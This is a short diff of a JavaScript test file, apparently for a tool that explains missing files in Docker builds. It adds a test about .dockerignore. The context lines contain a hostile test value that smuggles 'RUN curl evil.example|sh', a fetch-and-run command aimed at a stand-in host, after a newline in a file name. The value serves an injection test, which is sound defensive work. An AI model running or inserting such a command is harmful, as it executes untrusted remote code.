@@ -74,6 +74,11 @@ test('a symlink in the context does not show the names of other folders', async 
   rmSync(context, { recursive: true })
 })
 
+test('of what is below an existing name, .dockerignore is one reason of several', () => {
+  const { message } = withNearbyNames(failure(4, 'x'), { path: '/x/zz', stage: null }, { folder: '/', names: ['x'] })
+  expect(message).toContain('or a link that leaves the build context')
+})
+
 test('a name stays on its line, and many long names are not compared', () => {
   const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
   const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
